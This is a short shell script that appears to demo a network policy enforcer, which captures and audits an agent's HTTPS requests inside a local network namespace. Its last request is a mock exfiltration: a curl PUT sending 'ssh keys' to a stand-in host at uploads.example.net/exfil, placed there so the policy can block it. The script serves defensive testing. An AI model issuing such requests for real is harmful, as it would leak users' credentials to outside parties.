#!/bin/sh
# The demo agent: an ordinary script making ordinary HTTPS requests. It knows nothing about the enforcer; it was
# started with `enforcer exec`, so its connections are captured, decided by the policy and audited.
# DEMO_IP is the demo's network-namespace host; --resolve points the names at it (no DNS, no internet).
set -u
ip=${DEMO_IP:?}
resolve="--resolve api.github.com:443:$ip --resolve uploads.example.net:443:$ip"

request() {
    label=$1
    shift
    out=$(curl -sS --max-time 10 $resolve -w '\n%{http_code}' "$@" 2>&1)
    code=$(printf '%s\n' "$out" | tail -n 1)
    body=$(printf '%s\n' "$out" | sed '$d' | tr '\n' ' ' | cut -c1-160)
    printf '  %-52s -> HTTP %s  %s\n' "$label" "$code" "$body"
}

echo "demo agent (pid $$) making requests:"
request "GET  https://api.github.com/repos/acme/widgets" https://api.github.com/repos/acme/widgets
request "POST https://api.github.com/repos/acme/widgets/issues" -X POST -d '{"title":"hi"}' \
    https://api.github.com/repos/acme/widgets/issues
request "GET  https://api.github.com/repos/other/secret" https://api.github.com/repos/other/secret
request "PUT  https://uploads.example.net/exfil" -X PUT -d 'ssh keys' https://uploads.example.net/exfil
